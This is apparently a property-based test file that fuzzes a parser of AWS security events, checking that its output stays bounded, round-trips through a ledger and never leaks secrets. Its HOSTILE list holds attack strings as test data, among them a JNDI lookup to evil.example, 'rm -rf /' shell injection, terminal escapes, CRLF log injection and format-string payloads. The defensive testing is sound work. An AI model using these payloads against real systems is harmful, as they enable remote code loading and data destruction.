"""Whatever arrives, reading ends in signals, in a reason to ignore it, or in a reason why it cannot be read."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given, strategies as st

from chalicelib import sources
from chalicelib.ledger import codec
from chalicelib.model import Ignored, Malformed, Signal
from tests.sources import events
from tests.sources.events import RECEIVED, SECRET, TOKEN, Json
from tests.sources.test_patterns import paths

LONGEST = 20_000  # characters of a signal in the ledger, whose items hold 400 KB

HOSTILE = (
    "<!channel> <https://evil.example|click>",
    "\x1b[2J\x1b]0;owned\x07",
    "a\r\nAccount: 999999999999\n\nAll is well.",
    "\u202e\u2066\u200b\ufeff",
    "\ud800",  # half a character, as JSON may write it
    "${jndi:ldap://evil.example}",
    "'; rm -rf / #",
    "{name}{0.__class__}%s%n",
    "x" * 100_000,
    "9" * 5_000,
    "arn:aws:iam::*:user/*",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "Tue, 99 Nov 99999999999 02:58:00 GMT",
)

LEAVES = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(st.characters(), max_size=40)
    | st.sampled_from(HOSTILE)
)
TREES = st.recursive(
    LEAVES, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
)
NAMES = sorted({name for event in events.of_every_kind().values() for path in paths(event) for name in path})
FAMILIAR = st.recursive(
    LEAVES | st.sampled_from(["IAMUser", "Root", "AssumedRole", "FederatedUser", "Active", events.AKIA]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(NAMES), inner, max_size=6),
)


def read(event: Json) -> None:
    """Both ways in; what comes out is bounded, can be kept, and holds no secret."""
    for found in (sources.read(event, RECEIVED), sources.read_any(event, RECEIVED)):
        assert isinstance(found, Ignored | Malformed) or found
        if isinstance(found, Ignored | Malformed):
            assert 0 < len(found.reason) < 500
            continue
        for one in found:
            kept(one)


def kept(one: Signal) -> None:
    """It goes into the ledger and comes back the same."""
    written = codec.written(one)
    assert codec.read_signal(written) == one
    assert len(written.encode()) < LONGEST
    assert all(len(each.value) <= 300 for each in one.evidence)
    assert one.since <= one.at <= RECEIVED
    assert SECRET not in written
    assert TOKEN not in written


@given(st.dictionaries(st.text(max_size=12), TREES, max_size=6))
def test_any_json_is_read(event: Json) -> None:
    read(event)


@given(st.dictionaries(st.sampled_from(NAMES), FAMILIAR, max_size=8))
def test_any_json_of_familiar_members_is_read(event: Json) -> None:
    read(event)


@given(st.data())
def test_every_event_is_read_however_it_is_changed(data: st.DataObject) -> None:
    event = copy.deepcopy(data.draw(st.sampled_from(list(events.of_every_kind().values()))))
    for _ in range(data.draw(st.integers(1, 4))):
        known = paths(event)
        if not known:
            break
        mutate(event, data.draw(st.sampled_from(known)), data)
    read(event)
    if isinstance(event.get("detail"), dict):
        read(event["detail"])
        read(events.pascal(event["detail"]))


def mutate(event: Json, path: tuple[str, ...], data: st.DataObject) -> None:
    """Take a member away, give it another value, put it in a list or an object, or at another name."""
    last: Any = event
    for name in path[:-1]:
        last = last[name]
    value = last.pop(path[-1])
    match data.draw(st.sampled_from(["drop", "retype", "list", "nest", "rename"])):
        case "retype":
            last[path[-1]] = data.draw(TREES)
        case "list":
            last[path[-1]] = [value, value]
        case "nest":
            last[path[-1]] = {path[-1]: value}
        case "rename":
            last[data.draw(st.sampled_from(NAMES))] = value
        case _:
            pass


def nested(depth: int, value: Any) -> Any:
    """Far deeper than any event, and than Python recurses."""
    for number in range(depth):
        value = {"detail": value} if number % 2 else [value]
    return value


@pytest.mark.parametrize("case", events.of_every_kind())
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_in_every_member_at_once_is_read(case: str, text: str) -> None:
    event = events.of_every_kind()[case]
    kind = ("type", "userType", "eventName", "eventSource", "eventTypeCode", "source", "detail-type", "status")
    read(replaced(event, text, kind))
    read(replaced(event, text, ()))


def replaced(tree: Any, text: str, but: tuple[str, ...]) -> Any:
    """Every text of the tree, except under those names."""
    if isinstance(tree, dict):
        return {name: value if name in but else replaced(value, text, but) for name, value in tree.items()}
    if isinstance(tree, list):
        return [replaced(one, text, but) for one in tree]
    return text if isinstance(tree, str) else tree


@pytest.mark.parametrize("case", events.of_every_kind())
def test_every_beginning_of_an_event_is_no_json_or_is_read(case: str) -> None:
    whole = json.dumps(events.of_every_kind()[case])
    for end in range(0, len(whole), 7):
        with pytest.raises(json.JSONDecodeError):
            json.loads(whole[:end])


@pytest.mark.parametrize("case", events.of_every_kind())
def test_what_is_nested_far_too_deeply_is_read_wherever_it_stands(case: str) -> None:
    for path in paths(events.of_every_kind()[case]):
        event = copy.deepcopy(events.of_every_kind()[case])
        last: Any = event
        for name in path[:-1]:
            last = last[name]
        last[path[-1]] = nested(5_000, last[path[-1]])
        read(event)


def test_evidence_is_cut_and_numbers_too_large_to_print_are_left_out() -> None:
    event = events.guardduty(title="t" * 5_000, severity=10**5_000)
    found = sources.read(event, RECEIVED)
    assert isinstance(found, tuple)
    shown = {one.label: one.value for one in found[0].evidence}
    assert shown["finding"] == "t" * 300
    assert "severity" not in shown
